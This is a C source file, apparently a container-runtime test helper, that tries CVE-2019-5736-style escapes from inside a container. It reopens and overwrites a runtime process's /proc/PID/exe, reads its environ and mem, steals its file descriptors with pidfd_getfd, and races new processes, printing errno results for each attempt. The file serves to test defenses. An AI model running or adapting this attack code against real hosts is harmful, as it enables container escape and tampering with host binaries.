/* SPDX-License-Identifier: MIT */
/*
 * runc-attacker: what a container process tries against the runtime's processes in its pid
 * namespace (the CVE-2019-5736 class). Static, so that it runs in a busybox bundle. Prints one
 * line per attempt, "NAME errno=N" (0: the attack worked) plus details; exit 0, 2 on usage.
 *
 *   probe PID MARKER        once: /proc/PID/exe for writing and as O_PATH (its size), environ
 *                           (does it hold MARKER?), mem (open, then one read where maps says
 *                           memory is), pidfd_getfd of fds 0..63 (how many were taken)
 *   hold-exe PID SECONDS    keeps /proc/PID/exe as O_PATH, then tries for SECONDS to reopen it
 *                           for writing and overwrite its first bytes: "exe-overwritten" when
 *                           that worked (the old exploit waits for the runtime to exec away)
 *   race MARKER SECONDS STOP  for SECONDS, or until the file STOP exists, probes every process
 *                           that appears (not itself, not 1) and prints "won ATTACK pid=N" for
 *                           each attack that worked
 *   fds PID                 what of PID's fds a process gets: "fddir errno=N" (listing
 *                           /proc/PID/fd), per fd listed "link N errno=E type=T target=X" and
 *                           "open N errno=E" (reopened through /proc/PID/fd/N, for writing where
 *                           it is a fifo: that starts a held container), and per fd 0..1023
 *                           taken by pidfd_getfd "getfd N type=T target=X" (the first refusal:
 *                           "getfd-refused N errno=E"); T is fifo, sock,
 *                           reg, dir, chr, other
 *
 * Every line ends with a newline and is written with one write(), so a file sees whole lines.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

__attribute__((format(printf, 1, 2))) static void say(const char *fmt, ...) {
        char line[512];
        va_list ap;
        int n;

        va_start(ap, fmt);
        n = vsnprintf(line, sizeof(line) - 1, fmt, ap);
        va_end(ap);
        if (n < 0)
                return;
        if ((size_t) n > sizeof(line) - 2)
                n = (int) sizeof(line) - 2;
        line[n++] = '\n';
        (void) !write(1, line, (size_t) n);
}

static double now(void) {
        struct timespec ts;
        clock_gettime(CLOCK_MONOTONIC, &ts);
        return (double) ts.tv_sec + ts.tv_nsec / 1e9;
}

struct result {
        int exe_wronly, exe_path, environ_, marker, mem, getfd, got;
        long long exe_size;
};

static void attack(int pid, const char *marker, struct result *r) {
        char p[64], buf[65536];
        int fd, pidfd;
        ssize_t n;

        memset(r, 0, sizeof(*r));
        r->exe_size = -1;
        snprintf(p, sizeof(p), "/proc/%d/exe", pid);
        fd = open(p, O_WRONLY | O_CLOEXEC);
        r->exe_wronly = fd < 0 ? errno : 0;
        if (fd >= 0)
                close(fd);
        fd = open(p, O_PATH | O_CLOEXEC);
        r->exe_path = fd < 0 ? errno : 0;
        if (fd >= 0) {
                struct stat st;
                if (fstat(fd, &st) == 0)
                        r->exe_size = (long long) st.st_size;
                close(fd);
        }

        snprintf(p, sizeof(p), "/proc/%d/environ", pid);
        fd = open(p, O_RDONLY | O_CLOEXEC);
        r->environ_ = fd < 0 ? errno : 0;
        if (fd >= 0) {
                n = read(fd, buf, sizeof(buf) - 1);
                if (n < 0)
                        r->environ_ = errno;
                else if (n == 0)
                        r->environ_ = ENODATA; /* a process whose environment is not readable */
                else {
                        for (ssize_t i = 0; i < n; i++)
                                if (!buf[i])
                                        buf[i] = '\n';
                        buf[n] = '\0';
                        r->marker = marker && *marker && strstr(buf, marker) != NULL;
                }
                close(fd);
        }

        snprintf(p, sizeof(p), "/proc/%d/mem", pid);
        fd = open(p, O_RDONLY | O_CLOEXEC);
        r->mem = fd < 0 ? errno : 0;
        if (fd >= 0) {
                char maps[64];
                unsigned long long start = 0;
                FILE *f;

                snprintf(maps, sizeof(maps), "/proc/%d/maps", pid);
                f = fopen(maps, "re");
                if (!f || fscanf(f, "%llx", &start) != 1)
                        r->mem = ENODATA;
                else if (pread(fd, buf, 16, (off_t) start) != 16)
                        r->mem = errno ? errno : EIO;
                if (f)
                        fclose(f);
                close(fd);
        }

        pidfd = (int) syscall(SYS_pidfd_open, pid, 0);
        r->getfd = pidfd < 0 ? errno : ENOENT;
        for (int t = 0; pidfd >= 0 && t < 64; t++) {
                int got = (int) syscall(SYS_pidfd_getfd, pidfd, t, 0);
                if (got >= 0) {
                        r->got++;
                        r->getfd = 0;
                        close(got);
                } else if (errno != EBADF)
                        r->getfd = errno;
        }
        if (pidfd >= 0)
                close(pidfd);
}

static int probe(int pid, const char *marker) {
        struct result r;

        attack(pid, marker, &r);
        say("exe-wronly errno=%d", r.exe_wronly);
        say("exe-path errno=%d size=%lld", r.exe_path, r.exe_size);
        say("environ errno=%d marker=%d", r.environ_, r.marker);
        say("mem errno=%d", r.mem);
        say("getfd errno=%d got=%d", r.getfd, r.got);
        say("done");
        return 0;
}

static int hold_exe(int pid, double seconds) {
        char p[64];
        double end = now() + seconds;
        int fd;

        snprintf(p, sizeof(p), "/proc/%d/exe", pid);
        fd = open(p, O_PATH | O_CLOEXEC);
        say("exe-path errno=%d", fd < 0 ? errno : 0);
        if (fd < 0) {
                say("done");
                return 0;
        }
        snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
        for (;;) {
                int w = open(p, O_WRONLY | O_CLOEXEC);

                if (w >= 0) {
                        ssize_t n = pwrite(w, "ZYGOTE-ATTACK", 13, 0);
                        say(n == 13 ? "exe-overwritten" : "exe-write errno=%d", n == 13 ? 0 : errno);
                        close(w);
                        break;
                }
                if (errno != ETXTBSY) {
                        say("exe-wronly errno=%d", errno);
                        break;
                }
                if (now() >= end) {
                        say("exe-wronly errno=%d timeout", ETXTBSY);
                        break;
                }
                usleep(5000);
        }
        say("done");
        return 0;
}

static int exe_of(int pid, char *buf, size_t len) {
        char p[64];
        ssize_t k;

        snprintf(p, sizeof(p), "/proc/%d/exe", pid);
        k = readlink(p, buf, len - 1);
        if (k < 0)
                return -errno;
        buf[k] = '\0';
        return 0;
}

static bool container_program(const char *target) {
        return strstr(target, "busybox") || strstr(target, "runc-attacker");
}

static int race(const char *marker, double seconds, const char *stop) {
        double end = now() + seconds;
        int seen[4096], n_seen = 0, probed = 0;

        say("racing");
        while (now() < end && access(stop, F_OK) < 0) {
                DIR *d = opendir("/proc");
                struct dirent *e;

                if (!d) {
                        say("opendir errno=%d", errno);
                        return 0;
                }
                while ((e = readdir(d))) {
                        int pid = atoi(e->d_name);
                        struct result r;
                        char target[256];
                        bool old = false;

                        if (pid <= 1 || pid == getpid())
                                continue;
                        for (int i = 0; i < n_seen; i++)
                                old |= seen[i] == pid;
                        if (old)
                                continue;
                        /* the container's own programs are fair game: skipped for good once one
                         * is seen; anything else is probed again on every pass, since the
                         * runtime's copy opens up only once it has dropped its capabilities */
                        if (exe_of(pid, target, sizeof(target)) == 0 && container_program(target)) {
                                if (n_seen < 4096)
                                        seen[n_seen++] = pid;
                                continue;
                        }
                        attack(pid, marker, &r);
                        probed++;
                        if (r.exe_path == 0 && exe_of(pid, target, sizeof(target)) == 0 && !container_program(target))
                                say("won exe pid=%d target=%s size=%lld", pid, target, r.exe_size);
                        if (r.marker)
                                say("won environ pid=%d", pid);
                        if ((r.mem == 0 || r.got > 0) &&
                            !(exe_of(pid, target, sizeof(target)) == 0 && container_program(target)))
                                say("won %s pid=%d got=%d", r.mem == 0 ? "mem" : "getfd", pid, r.got);
                }
                closedir(d);
        }
        say("probed probed=%d", probed);
        say("done");
        return 0;
}

static const char *type_of(mode_t m) {
        return S_ISFIFO(m)   ? "fifo"
               : S_ISSOCK(m) ? "sock"
               : S_ISREG(m)  ? "reg"
               : S_ISDIR(m)  ? "dir"
               : S_ISCHR(m)  ? "chr"
                             : "other";
}

static int fds(int pid) {
        char dir[64], p[128], target[256];
        struct dirent *e;
        DIR *d;
        int pidfd, refused = 0;

        snprintf(dir, sizeof(dir), "/proc/%d/fd", pid);
        d = opendir(dir);
        say("fddir errno=%d", d ? 0 : errno);
        while (d && (e = readdir(d))) {
                struct stat st;
                ssize_t k;
                int fd, n = atoi(e->d_name);

                if (e->d_name[0] == '.')
                        continue;
                snprintf(p, sizeof(p), "%s/%d", dir, n);
                k = readlink(p, target, sizeof(target) - 1);
                target[k < 0 ? 0 : k] = '\0';
                if (stat(p, &st) < 0)
                        say("link %d errno=%d type=none target=%s", n, errno, target);
                else
                        say("link %d errno=%d type=%s target=%s", n, k < 0 ? errno : 0, type_of(st.st_mode), target);
                fd = open(p, (S_ISFIFO(st.st_mode) ? O_WRONLY : O_RDONLY) | O_NONBLOCK | O_CLOEXEC | O_NOCTTY);
                say("open %d errno=%d", n, fd < 0 ? errno : 0);
                if (fd >= 0)
                        close(fd);
        }
        if (d)
                closedir(d);
        pidfd = (int) syscall(SYS_pidfd_open, pid, 0);
        say("pidfd errno=%d", pidfd < 0 ? errno : 0);
        for (int t = 0; pidfd >= 0 && t < 1024; t++) {
                int got = (int) syscall(SYS_pidfd_getfd, pidfd, t, 0);
                struct stat st;
                ssize_t k;

                if (got < 0) {
                        if (errno != EBADF && refused++ == 0)
                                say("getfd-refused %d errno=%d", t, errno);
                        continue;
                }
                snprintf(p, sizeof(p), "/proc/self/fd/%d", got);
                k = readlink(p, target, sizeof(target) - 1);
                target[k < 0 ? 0 : k] = '\0';
                say("getfd %d type=%s target=%s", t, fstat(got, &st) < 0 ? "none" : type_of(st.st_mode), target);
                close(got);
        }
        if (pidfd >= 0)
                close(pidfd);
        say("done");
        return 0;
}

int main(int argc, char **argv) {
        if (argc == 4 && strcmp(argv[1], "probe") == 0)
                return probe(atoi(argv[2]), argv[3]);
        if (argc == 4 && strcmp(argv[1], "hold-exe") == 0)
                return hold_exe(atoi(argv[2]), atof(argv[3]));
        if (argc == 3 && strcmp(argv[1], "fds") == 0)
                return fds(atoi(argv[2]));
        if (argc == 5 && strcmp(argv[1], "race") == 0)
                return race(argv[2], atof(argv[3]), argv[4]);
        fprintf(stderr,
                "usage: runc-attacker probe PID MARKER | hold-exe PID SECONDS | race MARKER SECONDS STOP | fds PID\n");
        return 2;
}
